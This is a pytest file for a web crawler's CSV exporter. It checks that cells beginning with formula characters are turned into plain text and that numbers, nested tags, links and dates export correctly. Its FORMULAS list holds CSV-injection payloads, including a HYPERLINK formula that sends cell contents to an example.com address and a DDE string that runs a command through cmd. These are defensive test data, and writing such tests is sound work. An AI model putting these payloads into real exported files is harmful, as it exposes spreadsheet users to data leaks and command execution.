"""CSV that a spreadsheet opens holds text, whatever a page says in it."""

import csv
import io
import json
from dataclasses import asdict
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from scrapy.utils.test import get_crawler

from mediacrawl import settings
from mediacrawl.cli.terminal.tables import print_answer
from mediacrawl.corpus.ask import Answer
from mediacrawl.extensions.csvfeed import PlainCsvItemExporter
from mediacrawl.items import Link, Tag
from mediacrawl.values.spreadsheet import plain_cell

FORMULAS = [
    '=HYPERLINK("http://example.com?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
HARMLESS = ["", "Ships = trade", "a-b", "'quoted'", "العبّارات", " "]


def rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert plain_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays(text):
    assert plain_cell(text) == text


def test_an_answer_has_no_formula_and_its_numbers_stay_numbers(capsys):
    answer = Answer(["=a", "n", "d", "tags", "none"], [("=1+1", -5, Decimal("-1.5"), ["=x"], None)])
    print_answer(answer, "csv")
    assert rows(capsys.readouterr().out) == [
        ["'=a", "n", "d", "tags", "none"],
        ["'=1+1", "-5", "-1.5", '["=x"]', ""],
    ]
    print_answer(answer, "csv", plain=False)
    assert rows(capsys.readouterr().out)[1][0] == "=1+1"


@pytest.mark.parametrize(("plain", "mark"), [(True, "'"), (False, "")])
def test_a_feed_has_no_formula_and_its_numbers_stay_numbers(plain, mark):
    crawler = get_crawler(settings_dict={"MEDIACRAWL_CSV_PLAIN": plain})
    file = io.BytesIO()
    exporter = PlainCsvItemExporter.from_crawler(crawler, file)
    exporter.export_item({"title": "=1+1", "tags": ["@a", "b"], "minutes": -3, "lead": "a-b"})
    exporter.finish_exporting()
    assert rows(file.getvalue().decode())[1] == [f"{mark}=1+1", f"{mark}@a; b", "-3", "a-b"]


def feed(*items):
    file = io.BytesIO()
    exporter = PlainCsvItemExporter(file, fields_to_export=["title", "tags", "links", "at"])
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    return rows(file.getvalue().decode())


def test_nested_cells_of_a_feed_are_names_or_json():
    link = Link("related", 1, "Ferry", "https://a.example/f")
    item = {
        "title": "Storm",
        "tags": [Tag("Sea", "https://a.example/sea"), Tag("Law")],
        "links": [link],
        "at": datetime(2024, 3, 1, 12, tzinfo=UTC),
    }
    [_, (title, tags, links, at)] = feed(item)
    assert (title, tags, at) == ("Storm", "Sea; Law", "2024-03-01T12:00:00+00:00")
    assert json.loads(links) == [asdict(link)]
    assert feed({"title": "a", "tags": [], "links": None})[1] == ["a", "", "", ""]


def test_a_feed_without_rows_has_its_header():
    assert feed() == [["title", "tags", "links", "at"]]


def test_the_settings_name_the_exporter():
    assert settings.FEED_EXPORTERS["csv"].rpartition(".")[2] == PlainCsvItemExporter.__name__
    assert settings.MEDIACRAWL_CSV_PLAIN is True
